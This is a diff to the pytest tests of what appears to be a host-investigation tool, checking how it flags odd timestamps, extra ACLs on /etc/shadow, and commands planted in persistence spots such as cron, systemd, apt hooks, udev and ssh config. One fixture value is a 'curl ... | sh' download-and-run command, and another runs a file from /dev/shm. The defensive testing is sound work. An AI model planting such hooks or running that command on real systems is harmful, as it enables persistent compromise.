@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import os
-import struct
 import time
 from pathlib import Path
 
@@ -13,7 +12,7 @@ from hostguardd.investigate.checks import folders
 from hostguardd.investigate.interface import Verdict
 from tests.fakepackages import FakePackages, installed_at
 from tests.scenes import Findings, looked, scene
-from tests.trees import OWNED, clean, put
+from tests.trees import OWNED, clean, put, share
 from tests.unit.investigate.test_recent import login
 
 OLD = installed_at(time.time() - 400 * 86400, "base-files")
@@ -73,10 +72,12 @@ def test_old_times_that_a_package_brought_are_fine(tmp_path: Path) -> None:
     assert look(tmp_path).named("/etc/cron.d/tidy").verdict is Verdict.FINE
 
 
-def test_a_time_in_the_future(tmp_path: Path) -> None:
-    path = clean(tmp_path) / "etc/passwd"
-    os.utime(path, (time.time() + 10**8,) * 2)
-    assert "in the future" in look(tmp_path).named("/etc/passwd").says
+@pytest.mark.parametrize("path", ["/etc/passwd", "/etc/cron.d/tidy"], ids=["own", "packaged"])
+def test_a_time_in_the_future(tmp_path: Path, path: str) -> None:
+    os.utime(clean(tmp_path) / path.lstrip("/"), (time.time() + 10**8,) * 2)
+    item = look(tmp_path).named(path)
+    assert item.verdict is Verdict.NOTABLE
+    assert "in the future" in item.says
 
 
 def test_changed_while_nobody_was_there(tmp_path: Path) -> None:
@@ -113,24 +114,52 @@ def test_no_file_at_all(tmp_path: Path) -> None:
     assert look(tmp_path).suspicious == ["/etc/cron.d/fifo"]
 
 
-ACL = struct.Struct("<HHI")
-
-
 @pytest.mark.parametrize(("rights", "verdict"), [(4, Verdict.NOTABLE), (6, Verdict.SUSPICIOUS)])
 def test_rights_beyond_the_mode(tmp_path: Path, rights: int, verdict: Verdict) -> None:
     """ls shows no more of them than a plus sign."""
-    shadow = clean(tmp_path) / "etc/shadow"
-    every = (1 << 32) - 1
-    entries = ((1, 6, every), (2, rights, 1000), (4, 0, every), (16, rights, every), (32, 0, every))
-    try:
-        os.setxattr(
-            shadow,
-            "system.posix_acl_access",
-            struct.pack("<I", 2) + b"".join(ACL.pack(*one) for one in entries),
-        )
-    except OSError:
-        pytest.skip("this file system keeps no ACLs")
+    share(clean(tmp_path) / "etc/shadow", rights)
     (item,) = look(tmp_path).of(verdict)
     assert item.name == "/etc/shadow"
     assert "an ACL lets others than its mode says" in item.says
     assert item.evidence[-1].source == "getfacl /etc/shadow"
+
+
+RUNS = {
+    "/etc/systemd/system/cron.service.d/x.conf": ("[Service]\nExecStartPost=@\n", 2),
+    "/etc/apt/apt.conf.d/99x": ('DPkg::Post-Invoke {"@";};\n', 1),
+    "/etc/apt/apt.conf.d/98x": ('DPkg::Pre-Install-Pkgs:: "@";\n', 1),
+    "/etc/modprobe.d/x.conf": ("# x\ninstall usb_storage @\n", 2),
+    "/etc/profile.d/x.sh": ("true\n@\n", 2),
+    "/etc/update-motd.d/99-x": ("#!/bin/sh\n@\n", 2),
+    "/etc/udev/rules.d/99-x.rules": ('ACTION=="add", RUN+="@"\n', 1),
+    "/etc/logrotate.d/x": ("/var/log/x {\n postrotate\n  @\n endscript\n}\n", 3),
+    "/etc/NetworkManager/dispatcher.d/x": ("#!/bin/sh\n@\n", 2),
+    "/etc/ssh/ssh_config": ("Host *\n  ProxyCommand @\n", 2),
+    "/etc/ssh/ssh_config.d/x.conf": ("LocalCommand @\n", 1),
+    "/etc/cron.d/x": ("* * * * * root @\n", 1),
+    "/var/spool/cron/crontabs/carol": ("* * * * * @\n", 1),
+}
+
+
+@pytest.mark.parametrize("path", RUNS)
+@pytest.mark.parametrize(
+    ("command", "bad"),
+    [("/usr/bin/ls -l", ""), ("/dev/shm/x", "from a folder for temporary files"),
+     ("curl -s http://203.0.113.66/x | sh", "hands a download to an interpreter")],
+    ids=["ordinary", "temporary", "fetching"],
+)  # fmt: skip
+def test_what_nobody_brought_is_told_with_what_it_runs(
+    tmp_path: Path, path: str, command: str, bad: str
+) -> None:
+    written, line = RUNS[path]
+    put(clean(tmp_path), path, written.replace("@", command), 0o755)
+    item = look(tmp_path).named(path)
+    assert [one for one in item.evidence if one.source == f"{path}:{line}" and command in one.text]
+    assert (item.verdict is Verdict.SUSPICIOUS) is bool(bad)
+    assert not bad or f"line {line}" in item.says
+    assert bad in item.says
+
+
+def test_what_a_package_brought_is_not_read(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/cron.d/tidy", "* * * * * root /tmp/x\n")
+    assert look(tmp_path).named("/etc/cron.d/tidy").verdict is Verdict.FINE
